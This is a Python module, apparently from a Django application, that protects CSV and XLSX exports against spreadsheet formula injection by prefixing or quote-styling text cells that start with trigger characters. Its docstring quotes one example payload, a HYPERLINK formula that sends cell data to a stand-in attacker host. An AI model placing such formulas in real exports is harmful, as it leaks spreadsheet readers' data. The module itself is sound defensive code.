"""Text typed by people never becomes a formula in a CSV or XLSX export.

A spreadsheet program treats a cell that starts with `=`, `+`, `-` or `@` (and, in some
programs, a tab, a line break or the full-width forms ＝＋－＠ that an IME produces) as a
formula: a unit name like `=HYPERLINK("http://evil/?"&A1)` would run on the reader's machine
(CSV/formula injection, OWASP). Every export writes its cells through this module:

- CSV: such text gets a leading apostrophe, which spreadsheet programs show as text.
- XLSX: such text is stored as a string cell with the "quote prefix" style, so Excel and
  LibreOffice show it exactly as typed and never evaluate it.

Only strings are touched: numbers (negative ones included) stay numbers.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Sequence
from typing import Any

from django.utils.functional import Promise

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
QUOTE = "'"


def is_risky(value: object) -> bool:
    """True for text a spreadsheet program could read as a formula."""
    return isinstance(value, str) and value.startswith(TRIGGERS)


def csv_writer(out: Any) -> Any:
    """A CSV writer with RFC 4180 line ends: a field holding a carriage return or a line
    feed is then quoted (with "\n" alone, a typed "\r" would split the row in two)."""
    return csv.writer(out, lineterminator="\r\n")


def csv_value(value: Any) -> Any:
    """One CSV cell: risky text behind an apostrophe, everything else unchanged."""
    if isinstance(value, Promise):
        value = str(value)
    return QUOTE + value if is_risky(value) else value


def csv_row(values: Iterable[Any]) -> list[Any]:
    return [csv_value(v) for v in values]


def write_cell(sheet: Any, row: int, column: int, value: Any) -> Any:
    """`sheet.cell(row, column, value)` that never stores user text as a formula."""
    if isinstance(value, Promise):
        value = str(value)
    cell = sheet.cell(row=row, column=column, value=value)
    if is_risky(value):
        _as_text(cell, value)
    return cell


def append_row(sheet: Any, values: Sequence[Any]) -> None:
    """`sheet.append(values)` that never stores user text as a formula."""
    plain = [str(v) if isinstance(v, Promise) else v for v in values]
    sheet.append(plain)
    row = sheet.max_row
    for column, value in enumerate(plain, start=1):
        if is_risky(value):
            _as_text(sheet.cell(row=row, column=column), value)


def _as_text(cell: Any, text: str) -> None:
    # openpyxl infers data_type "f" from a leading "="; force a shared string instead.
    cell.value = text
    cell.data_type = "s"
    cell.quotePrefix = True
